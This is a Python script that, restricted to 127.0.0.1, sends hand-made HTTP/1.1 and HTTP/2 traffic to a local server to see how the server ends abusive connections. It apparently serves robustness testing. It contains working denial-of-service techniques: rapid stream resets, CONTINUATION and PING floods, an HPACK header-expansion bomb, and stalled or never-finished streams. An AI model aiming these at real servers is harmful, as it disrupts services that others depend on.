#!/usr/bin/env python3
"""Misuses one connection, on the loopback only, with frames made by hand. Prints how the server ended it.

    connections.py ATTACK 127.0.0.1:PORT [--tls] [--megabytes 64] [--seconds 20] [--times 1]

The last line is `closed SECONDS` or `open SECONDS`; what the server answered stands before it.
"""
import argparse
import re
import socket
import ssl
import struct
import sys
import time

parser = argparse.ArgumentParser()
parser.add_argument("attack")
parser.add_argument("address")
parser.add_argument("--tls", action="store_true")
parser.add_argument("--megabytes", type=int, default=64)
parser.add_argument("--seconds", type=float, default=20)
parser.add_argument("--times", type=int, default=1)
parser.add_argument("--path", default="/health")
options = parser.parse_args()
host, port = options.address.rsplit(":", 1)
if host != "127.0.0.1":
    sys.exit("connections.py attacks 127.0.0.1 only")

MAGIC = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header that no table knows (RFC 7541 §6.2.2)."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def request(method="GET", **headers):
    fields = {":method": method, ":scheme": "https", ":path": options.path, ":authority": "localhost", **headers}
    return b"".join(literal(name, value) for name, value in fields.items())


class Connection:
    def __init__(self, protocol=None):
        self.began = time.monotonic()
        self.wire = socket.create_connection((host, int(port)), timeout=options.seconds)
        if options.tls:
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            if protocol:
                context.set_alpn_protocols([protocol])
            self.wire = context.wrap_socket(self.wire, server_hostname="localhost")
            if protocol and self.wire.selected_alpn_protocol() != protocol:
                sys.exit(f"{protocol} is not offered")
        self.taken = b""

    def send(self, data):
        """Returns false once the server takes no more."""
        try:
            self.wire.sendall(data)
            return True
        except OSError:
            return False

    def flood(self, part):
        for _ in range((options.megabytes << 20) // len(part)):
            if not self.send(part):
                return

    def read(self, seconds):
        """Returns false once the server has closed."""
        self.wire.settimeout(max(seconds, 0.01))
        try:
            part = self.wire.recv(1 << 16)
        except (socket.timeout, ssl.SSLWantReadError):
            return True
        except OSError:
            return False
        self.taken += part
        return bool(part)

    def end(self, between=None):
        """Waits until the server closes, or the time is up."""
        until = self.began + options.seconds
        is_open = True
        last = time.monotonic()
        while is_open and time.monotonic() < until:
            is_open = self.read(min(0.5, until - time.monotonic()))
            if between and time.monotonic() - last > 0.5:
                between()
                last = time.monotonic()
        return "open" if is_open else "closed"


def http1(data):
    connection = Connection("http/1.1" if options.tls else None)
    connection.send(data)
    return connection


def http2(settings=b"", ready=True):
    connection = Connection("h2")
    if ready:
        connection.send(MAGIC + frame(SETTINGS, payload=settings) + frame(SETTINGS, ACK))
    return connection


def flooded(connection, part):
    connection.flood(part)
    return connection, connection.end()


def upgrade():
    head = f"GET {options.path} HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n"
    return flooded(http1(head.encode()), bytes(1 << 16))


def websocket():
    head = f"GET {options.path} HTTP/1.1\r\nHost: a\r\nConnection: upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    return flooded(http1(head.encode()), bytes(1 << 16))


def connect():
    return flooded(http1(b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n\r\n"), bytes(1 << 16))


def version():
    return flooded(http1(b"GET / HTTP/2.0\r\nHost: a\r\n\r\n"), bytes(1 << 16))


def head():
    return flooded(http1(b"GET / HTTP/1.1\r\nHost: a\r\nX: "), b"x" * (1 << 16))


def pipeline():
    """Requests by the thousand, and no answer is read."""
    connection = http1(b"")
    connection.wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.wire.settimeout(5)
    connection.flood(b"GET /auth/signin HTTP/1.1\r\nHost:a\r\n\r\n" * 1500)
    return connection, "open"


def chunks():
    """A body in chunks of one byte, for a route that reads none."""
    connection = http1(b"GET /health HTTP/1.1\r\nHost: a\r\n\r\nPOST /health HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n")
    return flooded(connection, b"1\r\nx\r\n" * 10_000)


def prior():
    """HTTP/2 without asking, where TLS does not."""
    connection = Connection()
    connection.send(MAGIC + frame(SETTINGS))
    return flooded(connection, bytes(1 << 16))


def halfclose():
    connection = http1(f"GET {options.path} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
    connection.wire.shutdown(socket.SHUT_WR)
    return connection, connection.end()


def idledata():
    return flooded(http2(), frame(DATA, 0, 1, bytes(1 << 14)))


def reset():
    connection = http2()
    part = b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, request()) + frame(RESET, 0, stream, struct.pack(">I", 8))
        for stream in range(1, 2001, 2)
    )
    connection.send(part)
    return flooded(connection, frame(DATA, 0, 3001, bytes(1 << 14)))


def continuation():
    connection = http2()
    connection.send(frame(HEADERS, 0, 1, request()))
    return flooded(connection, frame(CONTINUATION, 0, 1, literal("x", "y" * 100) * 150))


def settings():
    return flooded(http2(), frame(SETTINGS, payload=struct.pack(">HI", 3, 100)) * 1000)


def ping():
    return flooded(http2(), frame(PING, payload=bytes(8)) * 1000)


def magic():
    connection = Connection("h2")
    connection.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
    return flooded(connection, bytes(1 << 16))


def earlydata():
    """Frames before the settings that have to come first."""
    connection = Connection("h2")
    connection.send(MAGIC)
    return flooded(connection, frame(DATA, 0, 1, bytes(1 << 14)))


def headerslist():
    """One header again and again by its index, which decompresses into megabytes."""
    connection = http2()
    fill = b"\x40" + bytes([1]) + b"x" + b"\x7f\xa1\x1e" + b"y" * 4000
    connection.send(frame(HEADERS, 0, 1, request() + fill))
    return flooded(connection, frame(CONTINUATION, 0, 1, b"\xbe" * 16000))


def unfinished():
    """Streams whose bodies never end, as many as there may be, each with a window of bytes."""
    connection = http2()
    stream = -1
    for _ in range(100):
        stream += 2
        connection.send(frame(HEADERS, END_HEADERS, stream, request("POST")))
        connection.send(frame(DATA, 0, stream, bytes(1 << 14)) * 3)
    return connection, connection.end()


def neverready():
    connection = http2(ready=False)
    return connection, connection.end()


def idle():
    connection = http2()
    return connection, connection.end(lambda: connection.send(frame(PING, payload=bytes(8))))


def leftopen():
    """The client sends no more, and stays."""
    connection = http2()
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request()))
    connection.read(2)
    socket.socket.shutdown(connection.wire, socket.SHUT_WR)
    return connection, connection.end()


def notified():
    """The client says that it sends no more, and stays."""
    connection = http2()
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request()))
    connection.read(2)
    try:
        connection.wire.unwrap()
    except socket.timeout:
        return connection, "open"
    except OSError:
        pass
    return connection, "closed"


def window():
    """Answers for which no window is ever opened, and a PING now and then."""
    connection = http2(struct.pack(">HI", 4, 0))
    for stream in range(1, 21, 2):
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, request()))
    return connection, connection.end(lambda: connection.send(frame(PING, payload=bytes(8))))


def ask():
    """One request of HTTP/2, answered."""
    connection = http2()
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(origin="https://app.example")))
    until = time.monotonic() + options.seconds
    while not re.search(rb'\{".*\}', connection.taken, re.S) and time.monotonic() < until and connection.read(0.5):
        pass
    return connection, "answered"


def held():
    """Connections that have agreed on HTTP/2 and ask for nothing."""
    connections = [http2() for _ in range(options.times)]
    return connections[0], connections[0].end()


attacks = {
    name: value for name, value in list(globals().items())
    if callable(value) and value.__module__ == "__main__" and name not in (
        "frame", "literal", "request", "Connection", "http1", "http2", "flooded")
}
if options.attack == "list":
    sys.exit("\n".join(attacks))
for _ in range(options.times if options.attack != "held" else 1):
    began = time.monotonic()
    connection, verdict = attacks[options.attack]()
    text = connection.taken[:4000].decode("ascii", "replace")
    print("".join(c if c.isprintable() or c == "\n" else "." for c in text.replace("\r", "")))
    print(verdict, f"{time.monotonic() - began:.1f}")
